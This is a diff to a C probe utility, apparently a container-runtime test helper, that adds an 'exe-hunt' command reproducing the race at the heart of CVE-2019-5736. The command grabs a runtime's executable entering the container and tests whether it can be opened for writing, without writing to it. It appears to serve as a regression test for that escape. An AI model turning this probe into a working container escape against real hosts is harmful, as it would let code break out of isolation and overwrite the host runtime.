@@ -42,7 +42,7 @@ usage (void)
            "  domainname|fds|isatty FD|winsize [FD]|ns|mounts|mountinfo PATH|stat PATH|\n"
            "  write PATH [DATA]|read PATH|cat PATH|cgroup|oom|personality|ioprio|sched|\n"
            "  affinity|keyring|pid|ppid|sleep SECS|exit CODE|kill-self SIG|wait-signal|syscall NAME|\n"
-           "  sysctl NAME|alloc MB|forks N\n");
+           "  sysctl NAME|alloc MB|forks N|exe-hunt SECS\n");
   return 2;
 }
 
@@ -607,6 +607,77 @@ p_forks (long n)
   return 0;
 }
 
+/* The CVE-2019-5736 attack, for SECS seconds: find a process whose
+   /proc/PID/exe is not a file of this root (a runtime's clone entering the
+   container), keep an O_PATH handle on it, and keep trying to open it for
+   writing (never writing a byte: a success is the proof).  Prints how many
+   foreign executables were held and how many opened for writing.  */
+static int
+p_exe_hunt (long secs)
+{
+  enum
+  {
+    MAX_HELD = 64
+  };
+  int held[MAX_HELD];
+  char names[MAX_HELD][256];
+  int n_held = 0, writable = 0;
+  time_t end = time (NULL) + secs;
+
+  while (time (NULL) < end)
+    {
+      DIR *d = opendir ("/proc");
+      struct dirent *de;
+      while (d && (de = readdir (d)) != NULL)
+        {
+          char link[300], target[256];
+          struct stat st, mine;
+          ssize_t len;
+          int fd;
+
+          if (de->d_name[0] < '1' || de->d_name[0] > '9' || atoi (de->d_name) == getpid ())
+            continue;
+          snprintf (link, sizeof link, "/proc/%s/exe", de->d_name);
+          fd = open (link, O_PATH | O_CLOEXEC);
+          if (fd < 0)
+            continue;
+          len = readlink (link, target, sizeof target - 1);
+          target[len < 0 ? 0 : len] = '\0';
+          /* A file of this root (our own programs) is not the attack.  */
+          if (fstat (fd, &st) < 0
+              || (len > 0 && stat (target, &mine) == 0 && mine.st_dev == st.st_dev && mine.st_ino == st.st_ino)
+              || n_held == MAX_HELD)
+            {
+              close (fd);
+              continue;
+            }
+          snprintf (names[n_held], sizeof names[n_held], "%s", target);
+          held[n_held++] = fd;
+        }
+      if (d)
+        closedir (d);
+      for (int i = 0; i < n_held; i++)
+        {
+          char self[64];
+          int w;
+          if (held[i] < 0)
+            continue;
+          snprintf (self, sizeof self, "/proc/self/fd/%d", held[i]);
+          w = open (self, O_WRONLY | O_CLOEXEC);
+          if (w >= 0)
+            {
+              close (w);
+              writable++;
+              printf ("writable=%s\n", names[i]);
+              close (held[i]);
+              held[i] = -1;
+            }
+        }
+    }
+  printf ("held=%d\nopened-for-writing=%d\n", n_held, writable);
+  return 0;
+}
+
 static volatile sig_atomic_t got_signal;
 
 static void
@@ -771,5 +842,7 @@ main (int argc, char **argv)
     return p_alloc (atol (arg));
   if (strcmp (cmd, "forks") == 0 && arg)
     return p_forks (atol (arg));
+  if (strcmp (cmd, "exe-hunt") == 0 && arg)
+    return p_exe_hunt (atol (arg));
   return usage ();
 }
